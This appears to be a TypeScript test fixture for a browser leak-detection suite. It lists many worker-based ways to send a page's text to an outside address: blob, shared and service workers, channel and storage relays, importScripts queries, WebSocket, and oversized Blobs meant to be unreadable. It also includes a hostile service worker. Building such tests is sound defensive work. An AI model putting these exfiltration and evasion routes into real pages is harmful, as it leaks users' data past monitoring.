/** Workers of every kind send the text; the page only hands it over. */
import { type Attempt, variants } from './attempt.ts';

export const workers: readonly Attempt[] = [
  ...variants(
    [
      'string',
      'JSON',
      'Uint8Array',
      'URLSearchParams',
      'FormData',
      'Request',
      'XMLHttpRequest',
      'synchronous XMLHttpRequest',
      'query',
      'importScripts',
    ],
    (kind) => ({
      name: `worker: ${kind}`,
      reads: 'network' as const,
      run: async ({ text, to, variant }) => {
        const work: Readonly<Record<string, string>> = {
          string: `fetch(to, { method: 'POST', body: text })`,
          JSON: `fetch(to, { method: 'POST', body: JSON.stringify({ text }), headers: { 'content-type': 'application/json' } })`,
          Uint8Array: `fetch(to, { method: 'POST', body: new TextEncoder().encode(text) })`,
          URLSearchParams: `fetch(to, { method: 'POST', body: new URLSearchParams({ text }) })`,
          FormData: `const form = new FormData(); form.set('a', text); fetch(to, { method: 'POST', body: form })`,
          Request: `fetch(new Request(to, { method: 'POST', body: text }))`,
          XMLHttpRequest: `const request = new XMLHttpRequest(); request.open('POST', to); request.send(text)`,
          'synchronous XMLHttpRequest': `const request = new XMLHttpRequest(); request.open('POST', to, false); request.send(text)`,
          query: `fetch(to + '?q=' + encodeURIComponent(text))`,
          importScripts: `try { importScripts(to + '?q=' + encodeURIComponent(text)) } catch {}`,
        };
        const source = `onmessage = ({ data: { text, to } }) => { ${work[variant]} }`;
        new Worker(URL.createObjectURL(new Blob([source]))).postMessage({ text, to });
        await tools.pause(500);
      },
    }),
  ),
  ...variants(
    ['module', 'data:', 'nested', 'by BroadcastChannel', 'by IndexedDB', 'by Cache', 'by MessageChannel'],
    (kind) => ({
      name: `worker: ${kind}`,
      reads: 'network' as const,
      run: async ({ text, to, variant }) => {
        const post = `(text) => fetch(${JSON.stringify(to)}, { method: 'POST', mode: 'no-cors', body: text })`;
        const listening = `onmessage = ({ data }) => (${post})(data)`;
        const blob = (source: string): string => URL.createObjectURL(new Blob([source], { type: 'text/javascript' }));
        if (variant === 'module') new Worker(blob(listening), { type: 'module' }).postMessage(text);
        if (variant === 'data:') {
          new Worker(`data:text/javascript;charset=utf-8,${encodeURIComponent(listening)}`).postMessage(text);
        }
        if (variant === 'nested') {
          const outer = `const inner = new Worker(${JSON.stringify(blob(listening))}); onmessage = ({ data }) => inner.postMessage(data)`;
          new Worker(blob(outer)).postMessage(text);
        }
        if (variant === 'by BroadcastChannel') {
          const channel = new BroadcastChannel('x');
          const ready = new Promise((resolve) => {
            channel.addEventListener('message', resolve);
          });
          void new Worker(
            blob(
              `const channel = new BroadcastChannel('x'); channel.onmessage = ({ data }) => (${post})(data); channel.postMessage('ready')`,
            ),
          );
          await ready;
          channel.postMessage(text);
        }
        if (variant === 'by IndexedDB') {
          await new Promise((resolve) => {
            const opening = indexedDB.open('x', 1);
            opening.onupgradeneeded = () => opening.result.createObjectStore('s');
            opening.onsuccess = () => {
              const change = opening.result.transaction('s', 'readwrite');
              change.objectStore('s').put(text, 'k');
              change.oncomplete = resolve;
            };
          });
          void new Worker(
            blob(`indexedDB.open('x', 1).onsuccess = ({ target }) => {
            target.result.transaction('s').objectStore('s').get('k').onsuccess = ({ target }) => (${post})(target.result);
          }`),
          );
        }
        if (variant === 'by Cache') {
          const cache = await caches.open('y');
          await cache.put('/kept', new Response(text));
          void new Worker(
            blob(
              `(async () => (${post})(await (await (await caches.open('y')).match('${location.origin}/kept')).text()))()`,
            ),
          );
        }
        if (variant === 'by MessageChannel') {
          const { port1, port2 } = new MessageChannel();
          const worker = new Worker(
            blob(`onmessage = ({ ports }) => { ports[0].onmessage = ({ data }) => (${post})(data) }`),
          );
          worker.postMessage('port', [port2]);
          port1.postMessage(text);
        }
        await tools.pause(700);
      },
    }),
  ),
  {
    name: 'worker: shared',
    reads: 'network',
    run: async ({ text, to }) => {
      const source = `onconnect = ({ ports }) => { ports[0].onmessage = ({ data: { text, to } }) => fetch(to, { method: 'POST', body: text }) }`;
      const worker = new SharedWorker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
      worker.port.postMessage({ text, to });
      await tools.pause(700);
    },
  },
  ...variants(['message', 'fetch event'], (kind) => ({
    name: `service worker: ${kind}`,
    isAlone: true as const,
    reads: 'network' as const,
    run: async ({ text, to, variant }) => {
      // The test's server has this script for every attempt.
      const registration = await navigator.serviceWorker.register('/hostile-worker.js', { scope: '/' });
      const worker = registration.installing ?? registration.waiting ?? registration.active;
      while (registration.active?.state !== 'activated') await tools.pause(30);
      void worker;
      if (variant === 'message') registration.active.postMessage({ text, to });
      else {
        while (navigator.serviceWorker.controller === null) await tools.pause(30);
        await caches.open('z').then((cache) => cache.put('/text', new Response(text)));
        // Its own answer carries the text; the page sends none.
        await fetch(`/relay?to=${encodeURIComponent(to)}`).catch(() => undefined);
      }
      await tools.pause(700);
      await registration.unregister();
    },
  })),
  ...variants(['plain text', 'the beginning of a picture and a whole form'], (kind) => ({
    name: `unreadable: a Blob of more than 32 MB, ${kind}`,
    reads: 'none' as const,
    isSealed: true as const,
    run: async ({ text, to, variant }) => {
      const zeros = '\0'.repeat(4);
      const form = `\r\n--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nhello\r\n--x--\r\n`;
      const picture = [new Uint8Array([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10]), zeros, form];
      const parts = variant === 'plain text' ? [] : picture;
      const type = variant === 'plain text' ? 'text/plain' : 'multipart/form-data; boundary=x';
      const body = new Blob([...parts, ' '.repeat(33_000_000), text], { type });
      await fetch(to, { method: 'POST', body });
    },
  })),
  {
    name: 'unreadable: a worker’s Blob',
    reads: 'none',
    run: async ({ text, to }) => {
      const source = `onmessage = ({ data: { text, to } }) => fetch(to, { method: 'POST', body: new Blob([text]) })`;
      new Worker(URL.createObjectURL(new Blob([source]))).postMessage({ text, to });
      await tools.pause(500);
    },
  },
  {
    name: 'unreadable: a file in a worker’s form',
    reads: 'none',
    run: async ({ text, to }) => {
      const source = `onmessage = ({ data: { text, to } }) => {
        const form = new FormData(); form.set('file', new File([text], 'a.ts')); fetch(to, { method: 'POST', body: form }) }`;
      new Worker(URL.createObjectURL(new Blob([source]))).postMessage({ text, to });
      await tools.pause(500);
    },
  },
  {
    name: 'unreadable: a worker’s WebSocket',
    reads: 'none',
    run: async ({ text, to }) => {
      const source = `onmessage = ({ data: { text, to } }) => {
        const socket = new WebSocket(to.replace('http', 'ws')); socket.onopen = () => socket.send(text) }`;
      new Worker(URL.createObjectURL(new Blob([source]))).postMessage({ text, to });
      await tools.pause(700);
    },
  },
];

/** The service worker of the hostile page. */
export const serviceWorker = `
oninstall = () => skipWaiting();
onactivate = (event) => event.waitUntil(clients.claim());
const send = (to, text) => fetch(to, { method: 'POST', body: text });
onmessage = ({ data: { text, to } }) => send(to, text);
onfetch = (event) => {
  const url = new URL(event.request.url);
  if (url.pathname !== '/relay') return;
  event.respondWith((async () => {
    const kept = await (await caches.open('z')).match('/text');
    return send(url.searchParams.get('to'), await kept.text());
  })());
};
`;
